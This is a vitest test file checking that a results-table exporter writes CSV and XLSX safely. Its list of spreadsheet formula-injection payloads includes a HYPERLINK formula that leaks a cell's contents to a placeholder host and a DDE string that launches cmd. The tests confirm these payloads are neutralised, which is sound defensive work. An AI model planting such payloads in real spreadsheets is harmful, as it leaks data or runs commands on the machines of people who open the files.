import { describe, expect, it } from 'vitest'
import Papa from 'papaparse'
import ExcelJS from 'exceljs'
import { neutraliseFormula } from '@/core/exchange/results/formula'
import type { Table } from '@/core/exchange/results/table'
import { BOM, tableToCsv } from '@/io/export/csv'
import { tablesToXlsx } from '@/io/export/xlsx'

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=1+1\n第二行']

const table: Table = {
  name: '宿舍安全检查',
  columns: ['楼栋', '=标题', '得分'],
  rows: [...HOSTILE.map((text, i) => [text, '王老师', i]), ['3号楼', '-', -5], ['3号楼', null, 0]],
}

describe('CSV formula injection', () => {
  it('prefixes formula-like text with a quote and leaves numbers and plain text alone', () => {
    for (const text of HOSTILE) expect(neutraliseFormula(text)).toBe(`'${text}`)
    expect(neutraliseFormula(-5)).toBe(-5)
    expect(neutraliseFormula(null)).toBe(null)
    expect(neutraliseFormula('3号楼 = 201')).toBe('3号楼 = 201')
  })

  it('writes no cell that a spreadsheet would run as a formula', async () => {
    const csv = await tableToCsv(table)
    expect(csv.startsWith(BOM)).toBe(true)
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data
    expect(parsed[0]).toEqual(['楼栋', "'=标题", '得分'])
    expect(parsed.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE.map((t) => `'${t}`))
    // A negative number is written as a number: Excel reads "-5" as minus five, not a formula.
    const texts = parsed.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell))
    for (const cell of texts) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(parsed.at(-2)).toEqual(['3号楼', "'-", '-5'])
  })

  it('keeps such text as string cells in XLSX, never formulas, and unchanged', async () => {
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(await (await tablesToXlsx([table])).arrayBuffer())
    const sheet = book.worksheets[0]
    HOSTILE.forEach((text, i) => {
      const cell = sheet?.getCell(i + 2, 1)
      expect(cell?.type).toBe(ExcelJS.ValueType.String)
      expect(cell?.formula).toBeFalsy()
      // XML turns a bare CR into LF when read back; the text is otherwise the same.
      expect(cell?.value).toBe(text.replace('\r', '\n'))
    })
    expect(sheet?.getCell(1, 2).type).toBe(ExcelJS.ValueType.String)
    expect(sheet?.getCell(HOSTILE.length + 2, 3).value).toBe(-5)
  })
})
